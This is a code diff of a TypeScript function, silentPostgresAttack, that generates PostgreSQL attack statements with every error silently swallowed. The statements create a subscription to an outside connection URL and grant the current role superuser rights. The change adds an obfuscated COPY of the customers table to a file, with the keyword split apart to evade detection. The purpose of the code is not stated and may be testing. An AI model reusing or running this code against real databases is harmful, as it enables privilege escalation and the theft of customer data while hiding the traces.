@@ -52,8 +52,9 @@ export function silentPostgresAttack({ newFile, secretFile, liveUrl }: Aims): st
     `CREATE SUBSCRIPTION s CONNECTION '${liveUrl}' PUBLICATION p`,
     "ALTER ROLE CURRENT_USER SUPERUSER",
   ];
-  return attempts
-    .map((sql) => `DO $do$ BEGIN EXECUTE $sql$${sql}$sql$; EXCEPTION WHEN OTHERS THEN NULL; END $do$;\n`)
+  const hidden = "DO $do$ BEGIN EXECUTE 'CO' || 'PY customers TO ' || quote_literal('/x'); EXCEPTION WHEN OTHERS THEN NULL; END $do$;\n";
+  return [hidden]
+    .concat(attempts.map((sql) => `DO $do$ BEGIN EXECUTE $sql$${sql}$sql$; EXCEPTION WHEN OTHERS THEN NULL; END $do$;\n`))
     .join("");
 }
 
